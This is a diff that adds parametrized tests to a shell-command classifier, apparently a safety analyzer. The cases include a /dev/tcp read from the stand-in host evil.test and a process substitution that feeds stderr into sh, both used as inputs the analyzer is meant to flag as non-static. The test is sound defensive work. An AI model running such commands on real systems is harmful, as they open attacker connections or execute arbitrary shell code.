@@ -286,3 +286,18 @@ def test_deep_nesting_fails_closed() -> None:
     command = "echo " + "$(" * 500 + "x" + ")" * 500
     assert analyze(command).kind is Kind.NESTED
     assert analyze("echo " + "`" * 3).kind is Kind.NESTED
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ("cat </dev/tcp/evil.test/80", Kind.DYNAMIC),
+        ("echo ${x@P}", Kind.NESTED),
+        ("ls 2> >(sh)", Kind.NESTED),
+        ("a=(1 2)", Kind.NESTED),
+        ('git commit -m "fix: a (b)"', Kind.STATIC),
+        ("git log --format='%H %s' -n 5", Kind.STATIC),
+    ],
+)
+def test_more_classification(command: str, kind: Kind) -> None:
+    assert analyze(command).kind is kind
